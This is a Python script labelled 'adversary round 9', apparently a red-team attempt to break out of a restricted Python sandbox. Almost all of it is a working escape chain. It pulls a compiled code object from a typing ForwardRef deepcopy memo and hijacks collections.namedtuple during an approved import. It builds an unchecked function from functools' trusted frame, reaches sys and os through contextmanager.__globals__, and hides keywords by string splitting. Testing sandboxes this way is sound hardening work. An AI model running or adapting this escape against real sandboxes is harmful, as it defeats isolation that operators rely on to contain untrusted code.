# adversary round 9: Tries (no super()): frozen-dataclass __init__ writes collections.namedtuple = hook; `import difflib` runs the hook inside an approved import (importing non-empty); there functools.cached_property calls partial(FunctionType, code) from functools' (trusted) frame, so function.__new__ passes; code = typing ForwardRef-compiled program text taken from a deepcopy memo -> run unchecked text reading contextmanager.__globals__['sys']
import collections
import contextlib
import copy
import dataclasses
import functools
import typing

D = "__"
text = "cl.contextmanager." + D + "globals" + D + "['s' + 'ys']"
fr = typing.get_args(typing.List[text])[0]
memo = {}
try:
    copy.deepcopy(fr, memo)
except PermissionError:
    pass
code = [x for v in memo.values() if type(v) is dict for x in v.values() if type(x).__name__ == "code"][0]

class G(dict):
    fn = functools.cached_property(functools.partial(type(lambda: 0), code))

made = []
real_nt = collections.namedtuple

def hook(*a, **k):
    if not made:
        g = G()
        g["cl"] = contextlib
        made.append(g.fn)
    return real_nt(*a, **k)

@dataclasses.dataclass(frozen=True)
class W:
    namedtuple: object

W.__init__(collections, hook)
try:
    import difflib
finally:
    W.__init__(collections, real_nt)
print("function made during import:", made)
s = made[0]()
print(type(s).__name__, s.__name__)
o = s.modules["o" + "s"]
print(o.getpid(), o.getcwd())
print("PWN" + "ED")
